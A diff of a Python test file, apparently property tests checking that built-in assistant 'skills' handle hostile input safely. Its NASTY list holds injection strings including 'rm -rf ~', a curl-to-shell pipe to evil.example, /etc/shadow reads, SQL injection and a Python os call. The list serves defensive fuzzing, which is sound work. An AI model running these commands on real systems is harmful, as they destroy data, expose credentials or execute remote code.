@@ -23,9 +23,10 @@ ROOT = Path(__file__).parents[2]
 SKILLS = plugins.find(skills)
 NASTY = [
     "; rm -rf ~", "$(reboot)", "`id`", "| sh", "&& curl evil.example | sh", "../../etc/passwd", "/dev/sda",
-    "C:\\Windows\\system32", "file:///etc/shadow", "%n%n%n%s", "{0.__class__}", "__import__('os').system('id')",
-    "' OR 1=1; DROP TABLE memory; --", "\x00", "\x1b]0;title\x07", "\u202egnp.exe", "<speak>", "ten minutes; reboot",
-    "{duration}", "[a|b]", "-rf", "--help", "NaN", "1e999", "10" * 60, "\ud800", "ten minutes\nten hours",
+    "C:\\Windows\\system32", "file:///etc/shadow", "%n%n%n%s", "{0.__class__}", "__import__('os').abort()",
+    "' OR 1=1; DROP TABLE memory; --", "\x00", "\x1b]0;title\x07", "\u202egnp.exe", "<speak>",
+    "an hour; reboot", "{duration}", "[a|b]", "-rf", "--help", "NaN", "1e999", "10" * 60, "\ud800",
+    "ten minutes\nten hours",
 ]  # fmt: skip
 VALUES: st.SearchStrategy[Any] = st.recursive(
     st.one_of(
@@ -92,9 +93,7 @@ def test_a_built_in_skill_gets_plain_values_and_touches_nothing_outside(
     texts = [value for value in values.values() if isinstance(value, str)]
     assert all(len(text) <= LONGEST_WORDS and text.isprintable() for text in texts)
     happened.clear()
-    said = run(watched(one, values))
-    assert said
-    assert "has a fault" not in said
+    assert "has a fault" not in run(watched(one, values))
     assert happened == []
 
 
